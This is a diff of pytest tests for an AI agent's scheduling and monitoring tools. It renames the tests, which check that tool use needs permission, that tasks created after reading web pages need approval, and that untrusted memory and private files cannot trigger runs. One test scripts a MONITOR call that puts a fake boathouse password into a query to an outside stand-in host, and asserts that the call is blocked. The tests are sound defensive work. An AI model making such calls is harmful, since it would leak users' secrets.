@@ -18,7 +18,7 @@ from agent.types import VerdictState
 from tests.agent.channels.conftest import served
 from tests.agent.channels.test_telegram import ANN, ENV, BotApi
 
-SETS = (
+TASK_CALLS = (
     '<<TOOL:SCHEDULE_TASK:{"task":"What is new on Hesk Light?","when":"every monday at 8"}>>'
     '<<TOOL:REMIND_ME:{"text":"Book the ferry","when":"in 20 minutes"}>>'
     "<<TOOL:SET_TIMER:90>>"
@@ -27,7 +27,7 @@ SETS = (
 
 
 @pytest.fixture
-def setting(ask, script, tmp_path, monkeypatch):
+def run_with_tasks(ask, script, tmp_path, monkeypatch):
     """Ask a model that gives these replies, in a run that may create tasks."""
     monkeypatch.setenv("RESEARCH_CONFIG", str(tmp_path / "config.toml"))
     data = tmp_path / "data"
@@ -55,9 +55,9 @@ def setting(ask, script, tmp_path, monkeypatch):
     return asking
 
 
-async def test_what_a_model_sets_stands_with_the_schedules_and_is_stopped_by_name(setting):
-    report, results, _, found, watched = await setting(
-        SETS, "<<TOOL:STOP:book-the-ferry>><<TOOL:STOP:none>>", "<<TOOL:LIST>>"
+async def test_model_creates_lists_and_stops_tasks(run_with_tasks):
+    report, results, _, found, watched = await run_with_tasks(
+        TASK_CALLS, "<<TOOL:STOP:book-the-ferry>><<TOOL:STOP:none>>", "<<TOOL:LIST>>"
     )
     assert (report.error, report.status) == (None, "answered")
     assert {one.verdict for one in report.sentences} == {VerdictState.DONE}
@@ -78,22 +78,22 @@ async def test_what_a_model_sets_stands_with_the_schedules_and_is_stopped_by_nam
     assert "no schedule none" in results[5]["data"]["error"]
 
 
-async def test_without_a_users_leave_a_model_has_no_such_tools(setting):
-    _, results, offered, found, _ = await setting(SETS, allow_tasks=None)
+async def test_task_tools_are_not_offered_without_permission(run_with_tasks):
+    _, results, offered, found, _ = await run_with_tasks(TASK_CALLS, allow_tasks=None)
     assert not {"SCHEDULE_TASK", "REMIND_ME", "SET_TIMER", "MONITOR", "LIST", "STOP"} & {*offered}
     assert found == []
     assert all("error" in result["data"] for result in results)
 
 
 @pytest.mark.parametrize("says", [None, True])
-async def test_after_a_page_was_read_setting_one_takes_a_yes(setting, site, says):
+async def test_creating_task_after_reading_page_requires_approval(run_with_tasks, site, says):
     asked = []
 
     async def approve(effect):
         asked.append(effect)
         return says
 
-    report, _, _, found, _ = await setting(
+    report, _, _, found, _ = await run_with_tasks(
         f"<<TOOL:READ:{site.url}/hesk-light>>",
         '<<TOOL:REMIND_ME:{"text":"Buy a press","when":"tomorrow at 9:30"}>>',
         question=f"What is told at {site.url}/hesk-light ?",
@@ -106,13 +106,11 @@ async def test_after_a_page_was_read_setting_one_takes_a_yes(setting, site, says
         assert report.error.type == "NeedsUser"
 
 
-async def test_beside_recalled_words_of_the_web_a_reminder_is_set_and_a_run_is_not(
-    setting, tmp_path
-):
+async def test_recalled_web_memory_allows_reminder_but_not_scheduled_run(run_with_tasks, tmp_path):
     with Memory.open(tmp_path / "memory.db") as memory:
         web = Origin(url="https://hesk.example/", trusted=False)
         memory.add("Hesk Light is closed on Mondays.", "fact", origin=web)
-        _, results, _, found, _ = await setting(
+        _, results, _, found, _ = await run_with_tasks(
             '<<TOOL:REMIND_ME:{"text":"Visit Hesk Light","when":"tomorrow at 9:30"}>>'
             '<<TOOL:SET_GOAL:{"project":"Hesk","goals":["visit"]}>>'
             '<<TOOL:SCHEDULE_TASK:{"task":"Is Hesk Light open?","when":"every day"}>>',
@@ -123,9 +121,9 @@ async def test_beside_recalled_words_of_the_web_a_reminder_is_set_and_a_run_is_n
     assert ["error" in result["data"] for result in results] == [False, False, True]
 
 
-async def test_private_words_do_not_become_the_question_of_a_later_run(setting, tmp_path):
+async def test_private_content_cannot_become_scheduled_question(run_with_tasks, tmp_path):
     (tmp_path / "diary.txt").write_text("The password of the boathouse is quillwort-77.")
-    _, results, _, found, _ = await setting(
+    _, results, _, found, _ = await run_with_tasks(
         '<<TOOL:SCHEDULE_TASK:{"task":"What is quillwort-77?","when":"every day"}>>',
         '<<TOOL:MONITOR:{"target":"https://away.example/?q=quillwort-77"}>>',
         file=[str(tmp_path / "diary.txt")],
@@ -135,30 +133,30 @@ async def test_private_words_do_not_become_the_question_of_a_later_run(setting, 
     assert all("was not run" in result["data"]["error"] for result in results)
 
 
-async def test_a_reminder_reaches_a_feed_and_a_channel(desk, tmp_path, monkeypatch):
+async def test_reminder_is_delivered_to_feed_and_channel(harness, tmp_path, monkeypatch):
     api = BotApi()
     async with served(api.app) as url:
         row = f'[channels.telegram]\nurl = "{url}"\nallow = ["{ANN}"]\n'
         await asyncio.to_thread((tmp_path / "config.toml").write_text, row)
         feed = tmp_path / "told.xml"
-        job = desk.jobs.add(
+        job = harness.jobs.add(
             "Book the ferry", kind="remind", notify=[f"feed:{feed}", f"telegram:{ANN}"]
         )
         for name, value in ENV.items():
             monkeypatch.setenv(name, value)
-        async with desk.working(senders=channel_senders):
-            [done] = await desk.ended(job)
+        async with harness.working(senders=channel_senders):
+            [done] = await harness.ended(job)
     assert (done.state, done.undelivered) == ("done", ())
     assert api.texts() == ["Book the ferry"]
     assert "Book the ferry" in await asyncio.to_thread(feed.read_text)
 
 
-def test_a_monitor_of_a_while_ends_by_itself_and_can_still_be_removed(desk):
+def test_monitor_with_end_time_stops_and_can_be_removed(harness):
     ends = datetime.now(UTC) + timedelta(hours=6, seconds=30)
-    made = Monitors(desk.jobs).add("Who keeps the light?", until=ends)
-    [schedule] = Monitors(desk.jobs).schedules.all()
+    made = Monitors(harness.jobs).add("Who keeps the light?", until=ends)
+    [schedule] = Monitors(harness.jobs).schedules.all()
     assert len(list(schedule.times(schedule.since))) == 24
-    fire_due(desk.jobs, ends + timedelta(minutes=1))
-    assert Monitors(desk.jobs).schedules.all() == []
-    Monitors(desk.jobs).remove(made.name)
-    assert Monitors(desk.jobs).all() == []
+    fire_due(harness.jobs, ends + timedelta(minutes=1))
+    assert Monitors(harness.jobs).schedules.all() == []
+    Monitors(harness.jobs).remove(made.name)
+    assert Monitors(harness.jobs).all() == []
